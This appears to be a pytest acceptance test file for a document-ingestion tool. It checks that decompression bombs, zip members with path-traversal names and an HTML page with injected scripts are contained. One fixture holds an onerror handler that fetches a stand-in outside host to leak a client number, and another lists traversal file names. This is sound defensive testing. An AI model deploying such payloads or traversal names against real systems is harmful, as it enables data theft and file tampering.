"""Mission 57: a document made to do harm ends in a state of its own, and takes none of its neighbours along."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.acceptance.office import Office, write_mail
from tests.acceptance.papers import (
    write_long_header,
    write_nested_mail,
    write_nested_zip,
    write_pdf_bomb,
    write_word_bomb,
    write_zip_bomb,
)
from tests.unit.extractors.extractor_builders import make_zip

NEIGHBOURS = 199
MEMBERS = ("../../../escaped.txt", "/escaped-absolute.txt", "C:\\escaped.txt", "..\\..\\escaped.txt")
BOMBS = {
    "zip": write_zip_bomb,
    "docx": write_word_bomb,
    "pdf": write_pdf_bomb,
    "mail 200 deep": lambda: write_nested_mail(200),
    "zip 200 deep": lambda: write_nested_zip(200),
    "100,000 headers": write_long_header,
}


@pytest.mark.slow
def test_a_bomb_of_each_kind_ends_in_a_state_while_199_neighbours_are_read_and_linked(
    office: Office, capsys: pytest.CaptureFixture[str]
) -> None:
    for name, make in BOMBS.items():
        office.put(f"100 {name}", make())
    for place in range(NEIGHBOURS):
        client = office.clients[place % len(office.clients)]
        office.put(f"{place:03}.eml", write_mail(client.email, f"My client number is {client.number}, {place}."))
    office.run("sync", "--quiet")
    states = office.states()
    bombs = {locator for locator in states if locator.startswith("100 ")}
    assert len(bombs) == len(BOMBS)
    assert len(states) == NEIGHBOURS + len(BOMBS)
    assert {state for locator, state in states.items() if locator not in bombs} == {"delivered"}
    for locator in sorted(bombs):
        assert states[locator] in {"quarantined", "review"}, locator
        reading = office.extract(locator, capsys)
        assert reading["state"] in {"over_budget", "not_fully_read", "damaged"}, locator
        assert reading["reason"], locator
    assert office.run("sync", "--quiet") in {0, 10}
    assert office.states() == states


def test_a_member_whose_name_is_a_path_is_read_and_written_nowhere(office: Office, tmp_path: Path) -> None:
    client = office.clients[1]
    text = f"My client number is {client.number}.".encode()
    for place, name in enumerate(MEMBERS):
        office.put(f"{place}.zip", make_zip({name: text}))
    office.run("sync", "--quiet")
    assert set(office.states().values()) == {"delivered"}
    assert not list(tmp_path.rglob("*escaped*"))
    assert not list(Path.cwd().glob("*escaped*"))
    assert not Path("/escaped-absolute.txt").exists()


def test_a_script_in_a_page_is_neither_read_nor_shown(office: Office, capsys: pytest.CaptureFixture[str]) -> None:
    client, other = office.clients[1], office.clients[2]
    page = (
        f"<html><head><script>document.title = 'client number {other.number}'</script></head>"
        f"<body onload=\"alert('{other.number}')\"><p>My client number is {client.number}.</p>"
        f"<img src='x' onerror=\"fetch('https://elsewhere.example/{other.number}')\"></body></html>"
    )
    office.put("page.html", page.encode())
    office.run("sync", "--quiet")
    assert office.links("page.html") == [(client.number, "", "automatic")]
    assert [row["value"] for row in office.identifiers("page.html")] == [client.number]
    assert other.number not in office.extract("page.html", capsys)["text"]
